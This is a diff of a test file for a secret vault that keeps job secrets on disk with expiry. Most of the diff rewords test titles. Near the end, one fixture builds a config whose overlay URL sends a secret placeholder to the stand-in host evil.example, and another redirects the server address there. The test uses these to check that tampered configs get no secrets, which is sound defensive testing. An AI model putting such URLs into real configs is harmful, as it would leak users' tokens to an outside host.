@@ -54,7 +54,7 @@ describe('secrets of a job, outside of it', () => {
     expect(await vault().open(at('moved'), text)).toBeNull()
   })
 
-  test('a use begins their time again; after it they are off the disk', async () => {
+  test('a use restarts their time; when it is over they are deleted from the disk', async () => {
     await keep()
     now += 23 * hour
     expect((await vault().open(at('job'), text))?.secrets).not.toBeNull()
@@ -66,7 +66,7 @@ describe('secrets of a job, outside of it', () => {
     expect(await onDisk()).not.toContain('CANARY')
   })
 
-  test('tidying takes away what is over without anybody asking for it, and what belongs to no job', async () => {
+  test('tidying deletes expired secrets and those of no job', async () => {
     await keep()
     now += 25 * hour
     const tidied = vault()
@@ -79,7 +79,7 @@ describe('secrets of a job, outside of it', () => {
     expect(await readdir(at('data/secrets'))).toEqual([])
   })
 
-  test('a shorter time counts at once for what is there', async () => {
+  test('a shorter time applies at once to existing secrets', async () => {
     await keep()
     now += 2 * hour
     const shorter = vault()
@@ -89,13 +89,13 @@ describe('secrets of a job, outside of it', () => {
     expect(await onDisk()).not.toContain('CANARY')
   })
 
-  test('a clock that goes backwards lets nothing live longer', async () => {
+  test('a clock that goes backwards does not extend the time', async () => {
     await keep()
     now -= 45 * 24 * hour
     expect((await vault().open(at('job'), text))?.secrets).toBeNull()
   })
 
-  test('a job that is forgotten, or never was here, has none; nor has a folder of the data folder that is not there', async () => {
+  test('a job that was forgotten or never existed has none; a missing data folder has none either', async () => {
     await vault().tidy()
     const known = vault()
     await known.keep(at('job'), own)
@@ -108,7 +108,7 @@ describe('secrets of a job, outside of it', () => {
     expect(await onDisk()).toBe('')
   })
 
-  test('what a killed writer left goes after a minute, whatever the clock was set to; what is being written stays', async () => {
+  test('the file of a killed writer is deleted after a minute, whatever the clock says; a file that is being written stays', async () => {
     await keep()
     const left = ['now', 'before', 'ahead'].map((name) => join(at('data/secrets'), `x.json.tmp-1-${name}`))
     for (const [index, file] of left.entries()) {
@@ -121,7 +121,7 @@ describe('secrets of a job, outside of it', () => {
     expect(names).toEqual(['x.json.tmp-1-now'])
   })
 
-  test('a damaged file is as none', async () => {
+  test('a damaged file counts as missing', async () => {
     await keep()
     const [name = ''] = await readdir(at('data/secrets'))
     await writeFile(join(at('data/secrets'), name), '{"job": ')
@@ -147,7 +147,7 @@ describe('a job with such secrets', () => {
     expect((await load()).servers).toMatchObject([{ token }])
   })
 
-  test('says what to do when they are over, or were never here', async () => {
+  test('says what to do when they have expired or never existed', async () => {
     await createSecretVault(at('data'), () => Date.now() - 25 * hour).keep(at('job'), own)
     const over = await load().catch((error: Error) => error)
     expect(over).toMatchObject({ ...gone, message: expect.stringMatching(/were kept until .*: plex\.token$/) })
@@ -176,7 +176,7 @@ describe('a job with such secrets', () => {
       'preview: {config: config.yml, targets: []}\nlibraries: {Movies: {overlay_files: [{url: "http://evil.example/<<kometa-preview-secret-1>>"}]}}\n',
     ],
     ['another config that its preview.yml names', 'preview.yml', 'preview: {config: other.yml, targets: []}\n'],
-  ])('gets none of them once somebody has changed %s', async (_what, name, changed) => {
+  ])('gets none of them after a change of %s', async (_what, name, changed) => {
     await createSecretVault(at('data')).keep(at('job'), own)
     await writeFile(at('job/config/other.yml'), text.replace('10.0.0.5:32400', 'evil.example'))
     await writeFile(at(`job/config/${name}`), changed)
